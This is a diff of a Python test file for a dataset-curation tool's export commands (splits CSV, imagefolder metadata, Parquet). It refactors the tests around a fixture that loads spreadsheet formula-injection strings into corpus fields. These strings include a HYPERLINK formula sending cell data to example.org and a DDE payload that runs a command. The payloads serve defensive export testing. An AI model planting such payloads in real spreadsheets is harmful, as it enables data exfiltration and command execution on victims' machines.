@@ -3,24 +3,25 @@
 from __future__ import annotations
 
 import csv
-import dataclasses
 import io
 from pathlib import Path
-from typing import Any
 
 import pyarrow as pa
+import pyarrow.parquet as pq
 import pytest
+import small_corpus
 from hypothesis import example, given
 from hypothesis import strategies as st
 from parsing import HEADER_2020, TRAIN_2016, TRAIN_2017, TRAIN_2020, book, complaint, parse_these, records
 
 from curate.cli.rows import write_csv
 from curate.cli.skin import Skin
+from curate.corpus_rows import CorpusRows
 from curate.csv_rows import CsvRows
-from curate.export import imagefolder, splits
-from curate.export.pictures import COLUMNS
-from curate.export.selection import Selection
+from curate.export.handover import run
 from curate.records import Case
+from curate.vocabulary import SPLITS
+from curate.workspace import Workspace
 
 FORMULAS = ('=HYPERLINK("http://example.org?"&A1,"nevus")', "+1", "@SUM(A1:A9)", "-2+3", "=1+1", "=cmd|' /C calc'!A0")
 every_formula = pytest.mark.parametrize("formula", FORMULAS)
@@ -75,32 +76,44 @@ def test_sql_as_csv(capsys: pytest.CaptureFixture[str]) -> None:
     assert told[1:] == [[name, site or ""] for name, site in zip(*table.to_pydict().values(), strict=True)]
 
 
-def chosen(rows: list[dict[str, Any]]) -> Selection:
-    empty = {field.name: None for field in dataclasses.fields(Selection)}
-    return Selection(**{**empty, "rows": rows})  # type: ignore[arg-type]
+@pytest.fixture
+def strange(tmp_path: Path) -> Workspace:
+    """A corpus whose pictures have the formulas for families, sites and words of their source."""
+    workspace = small_corpus.build(tmp_path / "root")
+    with workspace.database() as database:
+        ids = sorted(database.table("corpus").column("id").to_pylist())
+        for number, formula in enumerate(FORMULAS):
+            values = [formula, formula, formula, ids[number % len(ids)]]
+            database._execute("update corpus set family = ?, site = ?, source_label = ? where id = ?", values)
+    return workspace
 
 
-def test_export_splits(tmp_path: Path) -> None:
-    rows = [dict.fromkeys(splits.COLUMNS, formula) | {"subtype": None} for formula in FORMULAS]
-    splits.write(chosen(rows), tmp_path)
-    with (tmp_path / "splits.csv").open(encoding="utf-8", newline="") as file:
-        told = list(csv.DictReader(file))
-    assert [(row["id"], row["split"], row["subtype"]) for row in told] == [(text, text, "") for text in FORMULAS]
+def test_export_splits(strange: Workspace, tmp_path: Path) -> None:
+    run(strange, "splits", tmp_path / "out")
+    with (tmp_path / "out" / "splits.csv").open(encoding="utf-8", newline="") as file:
+        told = {row["id"]: row["family"] for row in csv.DictReader(file)}
+    assert told == {row["id"]: row["family"] for row in CorpusRows.of(strange).ordered("id")}
+    assert set(told.values()) & set(FORMULAS)
 
 
-def test_export_imagefolder(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
-    """The table beside the pictures alone is looked at: the picture's bytes are stood in for."""
-    rows = [
-        dict.fromkeys(COLUMNS, formula) | {"id": f"pad_ufes_20:{formula}", "split": "train", "category": "benign"}
-        for formula in FORMULAS
-    ]
-    monkeypatch.setattr(imagefolder.encoded, "stream", lambda _, given, __: ((row["id"], b"\xff\xd8") for row in given))
-    imagefolder.write(chosen(rows), tmp_path)
-    with (tmp_path / "train" / "metadata.csv").open(encoding="utf-8", newline="") as file:
-        told = list(csv.DictReader(file))
-    assert [row["source_label"] for row in told] == list(FORMULAS)
-    for row in told:
-        assert (tmp_path / "train" / row["file_name"]).is_file(), "and the name is one of the disk"
+def test_export_imagefolder(strange: Workspace, tmp_path: Path) -> None:
+    run(strange, "imagefolder", tmp_path / "out")
+    rows = {row["id"]: row for row in CorpusRows.of(strange).ordered("id")}
+    words = {row["id"]: row for row in pq.read_table(tmp_path / "out" / "pictures.parquet").to_pylist()}
+    for split in SPLITS:
+        for row in read_back_rows(tmp_path / "out" / split / "metadata.csv"):
+            kept = rows.pop(row["id"])
+            assert (row["family"], row["site"]) == (kept["family"], kept["site"] or "unknown")
+            assert words[row["id"]]["source_label"] == kept["source_label"]
+            assert (tmp_path / "out" / split / row["file_name"]).is_file(), "and the name is one of the disk"
+    assert not rows
+
+
+def read_back_rows(path: Path) -> list[dict[str, str]]:
+    if not path.exists():
+        return []
+    with path.open(encoding="utf-8", newline="") as file:
+        return list(csv.DictReader(file))
 
 
 ANY = st.text(st.characters(exclude_categories=["Cs"]), max_size=8)
